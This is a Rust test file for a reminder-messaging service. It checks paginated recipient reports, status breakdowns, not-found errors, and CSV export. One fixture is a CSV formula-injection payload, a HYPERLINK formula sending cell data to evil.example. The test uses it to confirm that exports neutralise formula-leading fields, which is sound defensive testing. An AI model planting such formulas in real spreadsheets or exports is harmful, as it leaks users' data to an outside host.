//! Reports of single messages: everything that was sent is in them once, whatever is in the data.

use std::collections::BTreeMap;

use futures::TryStreamExt as _;
use futures::executor::block_on;
use reminderly_core::domain::access::Action;
use reminderly_core::domain::message_status::MessageStatus;
use reminderly_core::domain::recipient::{Breakdown, Recipient};
use reminderly_core::domain::response::ResponseKind;
use reminderly_core::ids::{CampaignId, CompanyId, IdSourceExt as _};
use reminderly_core::services::{Recipients, ReportOn, Reports, ServiceError};
use reminderly_tests::material;
use reminderly_tests::world::{Setup, World, instant};

/// What a spreadsheet must not run.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\");＝1;\n-2";

/// What stands for it in a file.
const GUARDED: &str = "'=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\");'＝1;'\n'-2";

/// Somebody who confirms, somebody whom nothing reaches, somebody without a number; and another file.
fn world() -> (World, CompanyId, CampaignId) {
    let mut world = World::new(&Setup { start: instant("2026-03-04T12:00:00Z"), ..Setup::default() });
    let company = world.company();
    let campaign = world.campaign(company, &material::document());
    let at = "2026-03-04 14:00";
    let formula = FORMULA.replace('"', "\"\"");
    let rows = [
        material::line(1, "+12025550111", at),
        material::line(2, "+12025550102", at),
        material::line(3, "", at),
        format!("K4,Name4,{},,{at},\"{formula}\"\n", material::number(4)),
    ];
    world.load(company, campaign.id, &(material::HEADER.to_owned() + &rows.concat()));
    world.start_worker();
    world.run_to_end();
    let next = material::line(5, &material::number(5), "2026-03-05 14:00");
    world.load(company, campaign.id, &(material::HEADER.to_owned() + &next));
    world.run_to_end();
    (world, company, campaign.id)
}

/// All recipients, in pages of so many.
fn paged(world: &World, company: CompanyId, on: ReportOn, limit: usize) -> Vec<Recipient> {
    let (service, scope) = (Recipients::new(&world.ports), world.scope(company, Action::ViewMessages));
    let (mut all, mut after) = (Vec::new(), None);
    loop {
        let page = block_on(service.page(&scope, on, after, limit)).unwrap();
        assert!(page.items.len() <= limit.max(1));
        all.extend(page.items);
        after = page.next;
        if after.is_none() {
            return all;
        }
    }
}

fn breakdown(world: &World, company: CompanyId, on: ReportOn) -> Breakdown {
    let scope = world.scope(company, Action::ViewReports);
    block_on(Recipients::new(&world.ports).breakdown(&scope, on)).unwrap()
}

#[test]
fn every_message_is_on_one_page() {
    let (world, company, id) = world();
    let all = paged(&world, company, ReportOn::Campaign(id), 100);
    for limit in 0..4 {
        assert_eq!(paged(&world, company, ReportOn::Campaign(id), limit), all, "{limit} on a page");
    }
    let packets = world.open_packets();
    assert!(packets.is_empty(), "all have ended");
    let of_first: Vec<Recipient> = paged(&world, company, ReportOn::Packet(all[0].packet), 2);
    assert_eq!(of_first[..], all[..of_first.len()]);
    let confirmed = &of_first[0].group;
    assert_eq!(confirmed.response, Some(ResponseKind::Confirmed));
    assert_eq!((confirmed.status, of_first[0].attempts), (MessageStatus::Delivered, 1));
    assert_eq!(of_first[1].group.status, MessageStatus::Undelivered);
    assert!(of_first[1].group.disposition.is_some() && of_first[1].group.reason.is_none());
    let nowhere = &of_first[2];
    assert_eq!((&nowhere.contact, nowhere.group.day), (&None, None));
    assert_eq!(nowhere.group.reason.as_deref(), Some("no_contact_point"));
}

#[test]
fn a_breakdown_counts_what_the_counters_count() {
    let (world, company, id) = world();
    let found = breakdown(&world, company, ReportOn::Campaign(id));
    let scope = world.scope(company, Action::ViewReports);
    let report = block_on(Reports::new(&world.ports).campaign(&scope, id)).unwrap();
    assert_eq!(found.by(|group| group.status), report.counts.messages);
    assert_eq!(found.total(), report.counts.messages.values().sum::<u64>());
    let days: Vec<String> =
        found.by(|group| group.day).into_keys().flatten().map(|day| day.to_string()).collect();
    assert_eq!(days, ["2026-03-04", "2026-03-05"]);
    let of_packets: u64 = report
        .packets
        .iter()
        .map(|packet| breakdown(&world, company, ReportOn::Packet(packet.packet)).total())
        .sum();
    assert_eq!(of_packets, found.total());
    let again: Breakdown = serde_json::from_str(&serde_json::to_string(&found).unwrap()).unwrap();
    assert_eq!(again, found);
}

#[test]
fn a_csv_file_has_every_message_and_no_formula() {
    let (world, company, id) = world();
    let all = paged(&world, company, ReportOn::Campaign(id), 100);
    let scope = world.scope(company, Action::ViewMessages);
    let pieces = Recipients::new(&world.ports).csv(scope, ReportOn::Campaign(id));
    let text = block_on(pieces.try_concat()).unwrap();
    let rows = read(&text);
    assert_eq!(rows.len(), all.len());
    for (row, recipient) in rows.iter().zip(&all) {
        assert_eq!(row["message"], recipient.message.to_string());
        assert_eq!(row["status"], recipient.group.status.as_str());
        let contact = recipient.contact.as_ref().map_or(String::new(), |to| format!("'{}", to.address()));
        assert_eq!(row["contact"], contact, "a number is no sum");
    }
    let of_formula = rows.iter().find(|row| row["row"] == "4").unwrap();
    assert_eq!(of_formula["person"], GUARDED);
    assert_eq!((&*rows[0]["response"], &*rows[0]["appointment_at"]), ("confirmed", "2026-03-04T21:00:00Z"));
    assert_eq!(rows[2]["reason"], "no_contact_point");
    let formulas = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    let fields = rows.iter().flat_map(BTreeMap::values);
    assert!(fields.into_iter().all(|field| !field.starts_with(formulas)));
}

#[test]
fn what_is_not_there_is_said() {
    let (world, company, _) = world();
    let scope = world.scope(company, Action::ViewReports);
    let service = Recipients::new(&world.ports);
    for (on, missing) in [
        (ReportOn::Packet(world.ports.ids.next(world.now())), "packet"),
        (ReportOn::Campaign(world.ports.ids.next(world.now())), "campaign"),
    ] {
        let error = block_on(service.breakdown(&scope, on)).unwrap_err();
        assert!(matches!(error, ServiceError::NotFound { what } if what == missing), "{error:?}");
        let error = block_on(service.csv(world.scope(company, Action::ViewMessages), on).try_concat());
        assert!(matches!(error, Err(ServiceError::NotFound { what }) if what == missing), "{error:?}");
    }
}

/// The rows of a file by their columns, as a reader of RFC 4180 finds them.
fn read(text: &[u8]) -> Vec<BTreeMap<String, String>> {
    csv::Reader::from_reader(text).deserialize().map(|row| row.unwrap()).collect()
}
